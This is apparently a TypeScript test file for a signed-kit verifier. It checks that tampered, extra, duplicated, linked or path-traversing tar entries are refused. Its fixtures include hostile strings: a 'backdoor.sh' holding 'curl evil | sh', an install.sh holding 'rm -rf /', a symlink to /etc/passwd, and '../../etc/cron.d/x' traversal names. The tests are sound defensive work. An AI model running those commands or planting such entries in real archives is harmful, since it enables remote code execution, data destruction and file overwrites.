// kit verify on small hand-made kits (real files, real signatures): a good kit verifies; a changed,
// missing or extra file, a changed manifest, another key, and entries a careless extraction would
// follow outside its directory (symlinks, hard links, directories, absolute or ".." names) are each
// refused with a message naming the file; the reader's bounds refuse before reading.
import t from 'tap';
import { createHash } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildKitManifest, encodeKitManifest, KIT_MANIFEST_NAME, KIT_SIGNATURE_NAME } from '../../src/kit/kit-manifest.js';
import { KIT_TAR_LIMITS, unsafeKitPath } from '../../src/kit/kit-tar.js';
import { verifyKitFile } from '../../src/kit/kit-verify.js';
import { createKeySigner, generateSigningKeyPair, signArtifact } from '../../src/tee/sign.js';
import { tarEnd, tarHeader, tarPadding, writeTar, type TarEntry } from '../../src/tee/tar.js';

const keys = generateSigningKeyPair();
const dir = mkdtempSync(join(tmpdir(), 'stella-kit-verify-'));
let n = 0;

const FILES: TarEntry[] = [
  { name: 'install.sh', data: Buffer.from('#!/bin/sh\necho install\n') },
  { name: 'configs/airgap.yaml', data: Buffer.from('profile: airgap\n') },
  { name: 'packages/gw.tgz', data: Buffer.alloc(3000, 7) },
];

async function signedHead(files: readonly TarEntry[], privateKeyPem = keys.privateKeyPem): Promise<TarEntry[]> {
  const manifest = buildKitManifest(
    { gateway: { name: 'stella-telemetry-gateway', version: '9.9.9', commit: 'test', package: 'packages/gw.tgz', bundledDependencies: 0 }, signerKeyId: 'test' },
    files.map((f) => ({ path: f.name, size: f.data.length, sha256: createHash('sha256').update(f.data).digest('hex') })),
  );
  const bytes = encodeKitManifest(manifest);
  const bundle = await signArtifact(bytes, createKeySigner(privateKeyPem));
  return [
    { name: KIT_MANIFEST_NAME, data: bytes },
    { name: KIT_SIGNATURE_NAME, data: Buffer.from(JSON.stringify(bundle)) },
  ];
}

function save(bytes: Buffer): string {
  const path = join(dir, `kit-${n++}.tar`);
  writeFileSync(path, bytes);
  return path;
}

/** A header of another entry type (symlink '2', hard link '1', directory '5'), checksum fixed. */
function oddHeader(name: string, type: string, linkName = ''): Buffer {
  const h = tarHeader(name, 0);
  h.write(type, 156, 'ascii');
  h.write(linkName, 157, 'utf8');
  h.fill(0x20, 148, 156);
  let sum = 0;
  for (const b of h) sum += b;
  h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'ascii');
  return h;
}

t.test('a kit whose every file matches its signed manifest verifies', async (t) => {
  const path = save(writeTar([...(await signedHead(FILES)), ...FILES]));
  const r = verifyKitFile(path, keys.publicKeyPem);
  t.ok(r.ok, r.ok ? 'verifies' : JSON.stringify(r));
  if (r.ok) t.same(r.manifest.files.map((f) => f.path), ['configs/airgap.yaml', 'install.sh', 'packages/gw.tgz']);
});

t.test('a changed, missing or extra file is named', async (t) => {
  const head = await signedHead(FILES);
  const changed = FILES.map((f) => (f.name === 'configs/airgap.yaml' ? { name: f.name, data: Buffer.from('profile: default\n') } : f));
  let r = verifyKitFile(save(writeTar([...head, ...changed])), keys.publicKeyPem);
  t.match(r, { ok: false, failures: [{ kind: 'tampered-file', path: 'configs/airgap.yaml', message: /^tampered file: configs\/airgap\.yaml has sha256 [0-9a-f]{64} \(17 bytes\), the manifest says/ }] });

  r = verifyKitFile(save(writeTar([...head, ...FILES.filter((f) => f.name !== 'install.sh')])), keys.publicKeyPem);
  t.match(r, { ok: false, failures: [{ kind: 'missing-file', path: 'install.sh', message: 'missing file: install.sh (listed in kit-manifest.json)' }] });

  r = verifyKitFile(save(writeTar([...head, ...FILES, { name: 'tools/backdoor.sh', data: Buffer.from('curl evil | sh\n') }])), keys.publicKeyPem);
  t.match(r, { ok: false, failures: [{ kind: 'extra-file', path: 'tools/backdoor.sh', message: 'extra file: tools/backdoor.sh (not listed in kit-manifest.json)' }] });

  // The same name twice: a tar extractor keeps the last one, which the digest check did not see.
  r = verifyKitFile(save(writeTar([...head, ...FILES, { name: 'install.sh', data: Buffer.from('rm -rf /\n') }])), keys.publicKeyPem);
  t.match(r, { ok: false, failures: [{ kind: 'extra-file', path: 'install.sh', message: 'extra file: install.sh appears twice' }] });
});

t.test('a changed manifest, another key or no signature stops before any file is trusted', async (t) => {
  const head = await signedHead(FILES);
  const manifest = Buffer.from(head[0]!.data).toString('utf8').replace('"install.sh"', '"install.sh "');
  let r = verifyKitFile(save(writeTar([{ name: KIT_MANIFEST_NAME, data: Buffer.from(manifest) }, head[1]!, ...FILES])), keys.publicKeyPem);
  t.match(r, { ok: false, failures: [{ kind: 'tampered-manifest', path: KIT_MANIFEST_NAME, message: /^tampered manifest: kit-manifest\.json has sha256/ }] });

  const other = generateSigningKeyPair();
  r = verifyKitFile(save(writeTar([...(await signedHead(FILES, other.privateKeyPem)), ...FILES])), keys.publicKeyPem);
  t.match(r, { ok: false, failures: [{ kind: 'wrong-key', path: KIT_SIGNATURE_NAME }] });

  r = verifyKitFile(save(writeTar([head[0]!, ...FILES])), keys.publicKeyPem);
  t.match(r, { ok: false, failures: [{ kind: 'missing-file', path: KIT_SIGNATURE_NAME }] });

  r = verifyKitFile(save(writeTar([head[0]!, { name: KIT_SIGNATURE_NAME, data: Buffer.from('{"not": "a bundle"') }, ...FILES])), keys.publicKeyPem);
  t.match(r, { ok: false, failures: [{ kind: 'bad-signature-file', path: KIT_SIGNATURE_NAME }] });
});

t.test('links, directories and unsafe names are refused, naming the entry', async (t) => {
  const head = writeTar(await signedHead(FILES)).subarray(0, -1024); // without the end blocks
  const cases: [Buffer, RegExp][] = [
    [oddHeader('configs/airgap.yaml', '2', '/etc/passwd'), /^refused entry: configs\/airgap\.yaml: a symlink entry \(refused: a kit holds regular files only\)$/],
    [oddHeader('install.sh', '1', 'kit-manifest.json'), /^refused entry: install\.sh: a hard link entry/],
    [oddHeader('tools', '5'), /^refused entry: tools: a directory entry/],
    [Buffer.concat([tarHeader('../../etc/cron.d/x', 2), Buffer.from('x\n'), tarPadding(2)]), /^refused entry: "\.\.\/\.\.\/etc\/cron\.d\/x": refused, a "\.\." path segment$/],
    [Buffer.concat([tarHeader('/etc/profile', 2), Buffer.from('x\n'), tarPadding(2)]), /^refused entry: "\/etc\/profile": refused, an absolute path$/],
    [Buffer.concat([tarHeader('configs/./x', 0)]), /refused, a "\." path segment$/],
  ];
  for (const [entry, message] of cases) {
    const r = verifyKitFile(save(Buffer.concat([head, entry, tarEnd()])), keys.publicKeyPem);
    t.match(r, { ok: false, failures: [{ kind: 'refused-entry', message }] }, String(message));
  }
  t.equal(unsafeKitPath('a\\b'), 'a control character or backslash in the name');
  t.equal(unsafeKitPath('a//b'), 'a "//" path segment');
  t.equal(unsafeKitPath('policies/redaction.yaml'), undefined);
});

t.test('the bounds refuse before reading: file size, entries, entry size, held size; truncation and garbage', async (t) => {
  const good = save(writeTar([...(await signedHead(FILES)), ...FILES]));
  const limits = { ...KIT_TAR_LIMITS };
  t.match(verifyKitFile(good, keys.publicKeyPem, { ...limits, maxBytes: 4096 }), { ok: false, failures: [{ kind: 'not-a-kit', message: /^not a kit: the file is \d+ bytes, more than a kit may be \(4096\)$/ }] });
  t.match(verifyKitFile(good, keys.publicKeyPem, { ...limits, maxEntries: 3 }), { ok: false, failures: [{ kind: 'not-a-kit', message: 'not a kit: more than 3 entries' }] });
  t.match(verifyKitFile(good, keys.publicKeyPem, { ...limits, maxEntryBytes: 2048 }), { ok: false, failures: [{ kind: 'refused-entry', path: 'packages/gw.tgz', message: /packages\/gw\.tgz is 3000 bytes, more than an entry may be \(2048\)/ }] });
  t.match(verifyKitFile(good, keys.publicKeyPem, { ...limits, maxHeldBytes: 100 }), { ok: false, failures: [{ kind: 'refused-entry', path: KIT_MANIFEST_NAME }] });

  const bytes = writeTar([...(await signedHead(FILES)), ...FILES]);
  t.match(verifyKitFile(save(bytes.subarray(0, bytes.length - 2048)), keys.publicKeyPem), { ok: false, failures: [{ message: /truncated tar entry packages\/gw\.tgz|ends without its end-of-archive/ }] });
  t.match(verifyKitFile(save(Buffer.from('this is not a tar file at all'.repeat(40))), keys.publicKeyPem), { ok: false, failures: [{ kind: 'not-a-kit', message: /^not a kit: bad tar header checksum at offset 0$/ }] });
});
